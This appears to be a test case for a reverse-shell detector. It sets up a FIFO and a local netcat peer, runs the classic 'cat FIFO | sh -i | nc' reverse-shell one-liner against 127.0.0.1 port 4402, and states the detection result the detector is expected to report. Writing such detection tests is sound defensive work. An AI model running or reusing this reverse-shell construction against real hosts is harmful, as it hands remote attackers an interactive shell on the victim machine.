# R02: cat, sh and nc in a ring of a FIFO and two pipes
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   detection.reason: ~FIFO /tmp/r02 →
#   reverse_shell.process_list.length: 3
#   reverse_shell.process_list.0.process_id: $nc
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4402
#   reverse_shell.process_list.2.process_id: $shell

#: prepare
. lib/peers.sh
peer 4402; rm -f /tmp/r02; mkfifo /tmp/r02
#: act
. lib/peers.sh
act
(cat /tmp/r02 | sh -i 2>&1 | nc 127.0.0.1 4402 > /tmp/r02) < /dev/null > /dev/null 2>&1 &
who shell 'sh -i'; who cat 'cat /tmp/r02'; who nc 'nc 127.0.0.1 4402'
await 'at $shell 0 pipe:* && same $shell 0 $cat 1 && same $shell 1 $nc 0 && at $nc 1 /tmp/r02'
await 'at $cat 3 /tmp/r02 && at $nc 3 socket:*'
#: clean
rm -f /tmp/r02
